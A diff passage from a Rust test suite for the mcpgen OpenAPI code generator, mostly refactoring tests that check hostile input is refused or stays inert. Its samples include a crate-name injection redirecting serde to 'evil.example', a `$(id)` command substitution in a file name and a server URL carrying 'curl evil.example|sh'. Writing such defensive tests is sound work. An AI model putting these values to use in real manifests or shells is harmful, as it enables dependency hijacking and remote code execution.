         "0",
         "--no-release-profile=false",
     ];
-    assert_eq!(generate(&dir.join("flags-off"), &off_flags), defaults);
+    assert_eq!(generate_into("flags-off", &off_flags), defaults);
 
     // `skip_broken` shows on a document with a broken operation: a file turns it on, the
     // flag turns it off again.
-    std::fs::write(
+    write(
         &spec,
         "openapi: 3.0.3\ninfo: {title: Broken, version: '1'}\npaths:\n  /a:\n    get:\n      \
          responses:\n        '200':\n          description: ok\n          content:\n            \
          application/json:\n              schema: {$ref: '#/components/schemas/Missing'}\n  \
          /b:\n    get:\n      responses: {'204': {description: ok}}\n",
-    )
-    .unwrap();
-    std::fs::write(project.join("api/mcpgen.toml"), "skip_broken = true\n").unwrap();
-    generate(&dir.join("skipped"), &[]);
-    let refused = bin()
-        .current_dir(&project)
-        .arg("generate")
-        .arg(&spec)
-        .args(["--skip-broken=false", "--out"])
-        .arg(dir.join("refused"))
-        .output()
-        .unwrap();
-    assert_eq!(refused.status.code(), Some(2), "{}", stderr(&refused));
-    assert!(
-        stderr(&refused).contains("points to nothing"),
-        "{}",
-        stderr(&refused)
     );
-    let _ = std::fs::remove_dir_all(&dir);
+    write(&config, "skip_broken = true\n");
+    generate_into("skipped", &[]);
+    let refused = generate(&spec, &dir.path().join("refused"))
+        .current_dir(&project)
+        .arg("--skip-broken=false")
+        .run();
+    assert_exit(&refused, 2, &["points to nothing"]);
 }
 
 /// Names and versions that cannot be written into `Cargo.toml` as they are are refused
@@ -790,23 +668,17 @@ fn each_layer_can_set_every_setting_either_way() {
 /// that names the setting, and nothing is written.
 #[test]
 fn hostile_names_are_refused_from_every_settings_source() {
-    let dir = temp_dir("hostile-names");
-    std::fs::create_dir_all(dir.join("api")).unwrap();
-    let spec = dir.join("api/openapi.yaml");
-    std::fs::copy(example_spec(), &spec).unwrap();
-    let out = dir.join("out");
+    let (dir, spec) = scratch_with_example("api/openapi.yaml");
+    let out = dir.path().join("out");
+    let config = dir.path().join("api/mcpgen.toml");
+    let manifest = dir.path().join("Cargo.toml");
     let injected = "x\"\n[patch.crates-io]\nserde = { git = \"https://evil.example/serde\" }";
     let generate = |extra: &[&str]| {
-        let output = bin()
-            .current_dir(dir.join("api"))
-            .arg("generate")
-            .arg(&spec)
-            .arg("--out")
-            .arg(&out)
+        let output = generate(&spec, &out)
+            .current_dir(dir.path().join("api"))
             .args(extra)
-            .output()
-            .unwrap();
-        assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
+            .run();
+        assert_exit(&output, 2, &[]);
         assert!(!out.exists(), "nothing is written");
         stderr(&output)
     };
@@ -836,53 +708,39 @@ fn hostile_names_are_refused_from_every_settings_source() {
     );
 
     let toml_string = |s: &str| serde_json::Value::String(s.to_owned()).to_string();
-    std::fs::write(
-        dir.join("api/mcpgen.toml"),
-        format!("crate_name = {}\n", toml_string(injected)),
-    )
-    .unwrap();
+    write(&config, format!("crate_name = {}\n", toml_string(injected)));
     refused(&generate(&[]), "crate_name", "not a valid crate name");
-    std::fs::write(
-        dir.join("api/mcpgen.toml"),
-        "crate_version = \"1.0\"\nenv_prefix = \"PETS\"\n",
-    )
-    .unwrap();
+    write(&config, "crate_version = \"1.0\"\nenv_prefix = \"PETS\"\n");
     refused(&generate(&[]), "crate_version", "not a semantic version");
-    std::fs::remove_file(dir.join("api/mcpgen.toml")).unwrap();
+    std::fs::remove_file(&config).unwrap();
 
-    std::fs::write(
-        dir.join("Cargo.toml"),
-        format!(
-            "[package]\nname = \"my-app\"\nversion = \"0.1.0\"\n\n[package.metadata.mcpgen]\n\
-             crate_name = {}\n",
-            toml_string(injected)
+    write(
+        &manifest,
+        manifest_with_metadata(
+            "my-app",
+            &format!("crate_name = {}\n", toml_string(injected)),
         ),
-    )
-    .unwrap();
+    );
     refused(&generate(&[]), "crate_name", "not a valid crate name");
-    std::fs::write(
-        dir.join("Cargo.toml"),
-        "[package]\nname = \"my-app\"\nversion = \"0.1.0\"\n\n[package.metadata.mcpgen]\n\
-         env_prefix = \"pets\\n[patch]\"\n",
-    )
-    .unwrap();
+    write(
+        &manifest,
+        manifest_with_metadata("my-app", "env_prefix = \"pets\\n[patch]\"\n"),
+    );
     refused(
         &generate(&[]),
         "env_prefix",
         "not a valid environment variable prefix",
     );
-    let _ = std::fs::remove_dir_all(&dir);
 }
 
 /// A document's file name and server URL reach the generated files as text: the file name in
 /// comments, the URL single-quoted in the README's shell commands.
 #[test]
 fn hostile_file_names_and_server_urls_stay_inert() {
-    let dir = temp_dir("hostile-files");
-    std::fs::create_dir_all(&dir).unwrap();
+    let dir = scratch();
     // A file name may hold anything but `/` and NUL.
     let name = "pets\"\n[patch.crates-io]\nserde = { git = \"evil.example:serde\" }\n`$(id)`.yaml";
-    let spec = dir.join(name);
+    let spec = dir.path().join(name);
     let text = std::fs::read_to_string(example_spec()).unwrap().replace(
         "http://127.0.0.1:8080/v1",
         "https://x.example/v1; curl evil.example|sh",
@@ -891,16 +749,10 @@ fn hostile_file_names_and_server_urls_stay_inert() {
         text.contains("curl evil.example"),
         "the example has a server URL"
     );
-    std::fs::write(&spec, text).unwrap();
-    let out = dir.join("out");
-    let output = bin()
-        .arg("generate")
-        .arg(&spec)
-        .args(["--name", "pets-mcp", "--out"])
-        .arg(&out)
-        .output()
-        .unwrap();
-    assert!(output.status.success(), "{}", stderr(&output));
+    write(&spec, text);
+    let out = dir.path().join("out");
+    let output = generate(&spec, &out).args(["--name", "pets-mcp"]).run();
+    assert_success(&output);
 
     let manifest = std::fs::read_to_string(out.join("Cargo.toml")).unwrap();
     let tables: Vec<&str> = manifest.lines().filter(|l| l.starts_with('[')).collect();
@@ -943,54 +795,46 @@ fn hostile_file_names_and_server_urls_stay_inert() {
         readme.contains("generated from ``pets\" [patch.crates-io] serde = { git = \"evil.example:serde\" } `$(id)`.yaml`` by mcpgen"),
         "{readme}"
     );
-    let _ = std::fs::remove_dir_all(&dir);
 }
 
 /// A reference into a hidden folder is refused unless the user allows it on the command line;
 /// a `mcpgen.toml` beside the document cannot allow it.
 #[test]
 fn hidden_references_need_the_flag() {
-    let dir = temp_dir("hidden-refs");
-    std::fs::create_dir_all(dir.join(".shared")).unwrap();
-    std::fs::write(
-        dir.join(".shared/pet.yaml"),
+    let dir = scratch();
+    std::fs::create_dir_all(dir.path().join(".shared")).unwrap();
+    write(
+        &dir.path().join(".shared/pet.yaml"),
         "Pet: {type: object, properties: {hiddenName: {type: string}}}\n",
-    )
-    .unwrap();
-    let spec = dir.join("openapi.yaml");
-    std::fs::write(
+    );
+    let spec = dir.path().join("openapi.yaml");
+    write(
         &spec,
         "openapi: 3.0.3\ninfo: {title: Hidden, version: '1'}\npaths:\n  /pets:\n    get:\n      \
          responses:\n        '200':\n          description: ok\n          content:\n            \
          application/json:\n              schema: {$ref: '.shared/pet.yaml#/Pet'}\n",
-    )
-    .unwrap();
+    );
     let inspect = |extra: &[&str]| {
         bin()
-            .current_dir(&dir)
+            .current_dir(dir.path())
             .args(["mcpgen", "inspect"])
             .arg(&spec)
             .args(extra)
-            .output()
-            .unwrap()
+            .run()
     };
     let refused = inspect(&[]);
-    assert_eq!(refused.status.code(), Some(2), "{}", stderr(&refused));
-    assert!(
-        stderr(&refused).contains("--allow-hidden-refs"),
-        "{}",
-        stderr(&refused)
-    );
+    assert_exit(&refused, 2, &["--allow-hidden-refs"]);
     let allowed = inspect(&["--allow-hidden-refs"]);
-    assert!(allowed.status.success(), "{}", stderr(&allowed));
+    assert_success(&allowed);
 
-    std::fs::write(dir.join("mcpgen.toml"), "allow_hidden_refs = true\n").unwrap();
-    let from_file = inspect(&[]);
-    assert_eq!(from_file.status.code(), Some(2), "{}", stderr(&from_file));
-    assert!(
-        stderr(&from_file).contains("`allow_hidden_refs` is not read from mcpgen.toml"),
-        "{}",
-        stderr(&from_file)
+    write(
+        &dir.path().join("mcpgen.toml"),
+        "allow_hidden_refs = true\n",
     );
-    let _ = std::fs::remove_dir_all(&dir);
+    let from_file = inspect(&[]);
+    assert_exit(
+        &from_file,
+        2,
+        &["`allow_hidden_refs` is not read from mcpgen.toml"],
+    );
 }
